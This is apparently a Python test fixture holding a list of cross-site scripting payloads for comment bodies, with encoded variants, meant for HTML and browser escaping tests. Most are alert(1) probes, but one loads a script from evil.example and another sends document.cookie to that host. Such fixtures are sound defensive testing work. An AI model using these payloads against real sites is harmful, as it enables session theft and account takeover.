"""Hostile comment bodies: script tags, event handlers, javascript: URLs, and encoded variants of each.

Shared by the HTML tests here and the browser test (tests/browser), which renders them in Chromium."""

import urllib.parse

BASE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>document.location='//evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(\'xss\')">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">点我</a>',
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg/onload=alert`1`>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "javascript:alert(document.domain)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<xss onpointerover=alert(1)>悬停</xss>",
    "评论<script>alert('中文')</script>结束",
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
]


def variants(payload):
    yield payload
    yield urllib.parse.quote(payload)  # URL-encoded
    yield "".join(f"&#{ord(c)};" for c in payload[:40])  # HTML entities (decimal)
    yield payload.replace("<", "&lt;").replace(">", "&gt;")  # pre-escaped, must not be un-escaped
    yield payload.replace("<", "\uff1c").replace(">", "\uff1e")  # full-width angle brackets


def payloads():
    seen, out = set(), []
    for base in BASE:
        for variant in variants(base):
            if variant not in seen and len(variant) <= 500:
                seen.add(variant)
                out.append(variant)
    return out


PAYLOADS = payloads()
